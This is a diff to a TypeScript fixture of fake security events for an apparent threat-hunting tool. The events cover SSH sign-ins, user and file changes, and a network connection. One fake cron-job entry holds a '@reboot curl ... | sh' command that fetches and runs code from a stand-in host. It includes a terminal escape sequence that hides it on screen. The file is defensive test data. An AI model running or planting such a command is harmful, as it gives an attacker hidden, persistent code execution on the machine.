@@ -1,9 +1,14 @@
-/** FAKE events of who signs in and of what changed about users and jobs. */
+/** FAKE events of who signs in, of what changed about users, jobs and files, and of a network of its own. */
 import type { HuntEvent } from '@parapet/contract/api';
 
 const overSsh = { 'parapet.login.service': 'sshd', 'source.ip': '192.0.2.77', 'source.port': 50_022 };
 const fromText = { 'parapet.source': 'auth log', 'parapet.login.evidence': 'text' };
 const compared = { 'parapet.source': 'comparison', 'event.action': 'user-change' };
+
+const written = {
+  ...{ 'parapet.source': 'fanotify', 'event.action': 'file-write', 'process.name': 'vim', 'user.name': 'root' },
+  'parapet.namespace.net': 4_026_531_840,
+};
 
 export const fakeSignIns: readonly HuntEvent[] = [
   {
@@ -37,5 +42,16 @@ export const fakeSignIns: readonly HuntEvent[] = [
     ...{ 'parapet.change.subject': 'cron job', 'parapet.change.type': 'added', 'user.target.name': 'eve' },
     ...{ 'parapet.change.after': '@reboot curl -u me:**** https://x.example/\u001b[2J | sh' },
     'parapet.change.while_away': true,
+  },
+  {
+    ...{ ...written, 'file.path': '/etc/ssh/sshd_config', 'file.hash.sha256': 'c0ffee12'.repeat(8) },
+    'parapet.file.previous.sha256': '5eed77aa'.repeat(8),
+  },
+  { ...written, 'file.path': '/usr/local/bin/backup', 'parapet.file.hash_absent': 'large' },
+  { ...written, 'event.action': 'file-delete', 'file.path': '/etc/hosts.deny', 'parapet.file.hash_absent': 'gone' },
+  {
+    ...{ 'parapet.source': 'ebpf', 'event.action': 'connect', 'network.transport': 'tcp', 'process.name': 'agent' },
+    ...{ 'source.ip': '10.200.1.2', 'source.port': 41_212, 'destination.ip': '10.200.1.1', 'destination.port': 5432 },
+    'parapet.namespace.net': 4_026_532_611,
   },
 ];
